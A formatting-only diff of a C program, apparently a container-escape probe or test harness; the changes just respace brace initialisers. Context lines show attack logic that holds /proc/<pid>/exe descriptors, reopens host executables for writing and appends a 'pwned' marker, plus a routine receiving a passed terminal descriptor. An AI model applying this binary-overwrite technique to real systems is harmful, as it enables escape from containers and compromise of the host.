@@ -139,7 +139,7 @@ static void exe_try_pid(struct exe_attack *a, int pid)
 	target[n > 0 ? n : 0] = '\0';
 	fprintf(a->report, "HELD pid=%d exe=%s ino=%lu\n", pid, target, (unsigned long)st.st_ino);
 	fflush(a->report);
-	a->held[a->n_held++] = (struct held){ .fd = fd, .pid = pid };
+	a->held[a->n_held++] = (struct held){.fd = fd, .pid = pid};
 	int w = open(path, O_WRONLY | O_CLOEXEC);
 	if (w >= 0) {
 		append_pwned(a, w, "direct", pid);
@@ -167,8 +167,8 @@ static void exe_reopen_held(struct exe_attack *a)
 
 static int cmd_exe_loop(int argc, char **argv)
 {
-	static const char *const own[] = { "/bin/busybox", "/probe", "/attack", "/proc/self/exe" };
-	struct exe_attack a = { 0 };
+	static const char *const own[] = {"/bin/busybox", "/probe", "/attack", "/proc/self/exe"};
+	struct exe_attack a = {0};
 	double end;
 
 	if (argc < 2)
@@ -225,8 +225,8 @@ static int cmd_swap(int argc, char **argv)
 static int recv_fd(int conn)
 {
 	char buf[256], cbuf[CMSG_SPACE(sizeof(int))];
-	struct iovec iov = { .iov_base = buf, .iov_len = sizeof(buf) };
-	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf) };
+	struct iovec iov = {.iov_base = buf, .iov_len = sizeof(buf)};
+	struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
 	struct cmsghdr *c;
 	int fd = -1;
 
@@ -240,7 +240,7 @@ static int recv_fd(int conn)
 
 static int cmd_recvtty(int argc, char **argv)
 {
-	struct sockaddr_un sa = { .sun_family = AF_UNIX };
+	struct sockaddr_un sa = {.sun_family = AF_UNIX};
 	struct statfs sfs;
 	struct stat st;
 	FILE *rep;
